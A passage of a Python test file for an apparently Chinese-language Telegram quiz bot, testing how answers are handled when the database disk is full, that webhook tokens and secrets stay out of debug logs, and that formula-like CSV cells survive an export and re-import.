    SQLITE_FULL, PostgreSQL's disk_full), while ``on``; everything else is written. A fault
    injected where the database's own error comes from."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, db: Database) -> None:
        self.on = True
        self.refused = 0
        if isinstance(db, SqliteDatabase):  # the error SQLite's connection raises
            target: object = db.conn
            self.error: Callable[[], Exception] = lambda: sqlite3.OperationalError(
                "database or disk is full"
            )
        else:  # the error asyncpg raises for PostgreSQL's "could not extend file"
            import asyncpg

            from bot.storage.postgres import _PostgresTransaction

            target = _PostgresTransaction
            self.error = lambda: asyncpg.DiskFullError("could not extend file: No space left")
        for name in ("execute", "executemany"):
            monkeypatch.setattr(target, name, self._failing(getattr(target, name)))

    def _failing(self, original):  # type: ignore[no-untyped-def]
        def call(*args: object, **kwargs: object) -> object:
            sql = next(a for a in args if isinstance(a, str))  # after self, for a class
            if self.on and sql.lstrip().startswith("INSERT INTO answers"):
                self.refused += 1
                raise self.error()
            return original(*args, **kwargs)

        return call


async def test_a_contest_answer_the_disk_cannot_hold_is_told_and_the_contest_goes_on(
    api: FakeBotApi,
    settings: Settings,
    clock: FakeClock,
    scheduler: FakeScheduler,
    monkeypatch: pytest.MonkeyPatch,
    errors: ErrorLog,
) -> None:
    api.admins[GROUP] = {ADMIN.id}
    admin, ann = GroupPlayer(api, ADMIN, GROUP), GroupPlayer(api, ANN, GROUP)
    async with running_bot(api, settings, clock, scheduler) as (_app, runtime):
        catalogue = runtime.engine.catalogue
        await admin.say("/contest 网购 1 10")
        await admin.say("/go")
        await scheduler.advance(2)
        disk = FullDisk(monkeypatch, runtime.db)
        refused = await ann.contest_answer(catalogue, right=True)
        disk.on = False  # space was freed
        await scheduler.advance(1)
        again = await ann.contest_answer(catalogue, right=True)
        await scheduler.advance(30)  # the question closes, then the podium
        podium = admin.last()[1]["text"]
        rows = await runtime.db.fetchall("SELECT user_id, points FROM answers")
    assert disk.refused == 1
    assert refused == "⚠️ 服务器存储已满，这次作答没有记录下来，请稍后再试一次。"
    assert again == "已记录你的答案：B（3.0 秒）"  # pressed again: stored this time
    assert [tuple(r) for r in rows] == [(ANN.id, 850)]
    assert "Ann" in podium
    assert errors.messages == []


async def test_a_solo_answer_the_disk_cannot_hold_is_told_and_kept_askable(
    api: FakeBotApi,
    settings: Settings,
    clock: FakeClock,
    monkeypatch: pytest.MonkeyPatch,
    errors: ErrorLog,
) -> None:
    me = Player(api, ANN)
    async with running_bot(api, settings, clock) as (_app, runtime):
        (question,) = await me.say("/quiz 网购")
        message_id, _ = me.last()
        right = next(data for label, data in me.buttons(message_id) if label.startswith("B"))
        disk = FullDisk(monkeypatch, runtime.db)
        refused = await me.press(message_id, right)
        disk.on = False
        recorded = await me.press(message_id, right)
        rows = await runtime.db.fetchall("SELECT user_id, correct FROM answers")
    assert refused == "⚠️ 服务器存储已满，这次作答没有记录下来，请稍后再试一次。"
    assert "回答正确" in recorded
    assert [tuple(r) for r in rows] == [(ANN.id, 1)]
    assert errors.messages == []


# --- secrets in logs -----------------------------------------------------------------------


@pytest.mark.parametrize("form", ["text", "json"])
async def test_webhook_at_debug_logs_neither_token_nor_secret(
    api: FakeBotApi, tmp_path: Path, form: str
) -> None:
    import asyncio

    import aiohttp

    from tests.helpers import bot_env, free_port, hook_url, listening, start_webhook_bot
    from tests.test_deploy import update

    secret = "s3cret-Value_of_the_webhook_0123456789"
    port = free_port()
    url = hook_url(port)
    env = bot_env(
        api,
        tmp_path / "data",
        SAMPLE_BANKS,
        QUIZBOT_LOG_FORMAT=form,
        QUIZBOT_WEBHOOK_SECRET=secret,
    )
    env["QUIZBOT_LOG_LEVEL"] = "DEBUG"
    process = await start_webhook_bot(env, port)
    try:
        await api.wait_calls("setWebhook", 1, timeout=60)
        await listening(port)
        async with aiohttp.ClientSession() as http:
            headers = {"X-Telegram-Bot-Api-Secret-Token": secret}
            async with http.post(url, json=update(1, ANN, "/help"), headers=headers) as ok:
                assert ok.status == 200
        await api.wait_calls("sendMessage", 1, ANN.id)
    finally:
        process.terminate()
        _out, err = await asyncio.wait_for(process.communicate(), 60)
    log = err.decode()
    (hook,) = api.sent(method="setWebhook")
    assert hook.params["secret_token"] == secret  # Telegram was given the secret
    assert "setWebhook" in log and "secret_token" in log  # the line that used to leak it
    assert secret not in log
    assert api.token not in log and api.token.split(":")[1] not in log
    assert "<secret>" in log


def test_a_neutralised_cell_reads_back_as_the_text_it_was() -> None:
    """A bank exported as CSV and imported back keeps texts that look like formulas."""
    from bot.csvfile import neutralise, restore

    for text in ("=1+1", "'=1+1", "''=1+1", "'quoted", "-5 元", "@user", "", "普通", "'"):
        cell = neutralise(text)
        assert isinstance(cell, str)
        assert not cell.startswith(("=", "+", "-", "@"))
        assert restore(cell) == text
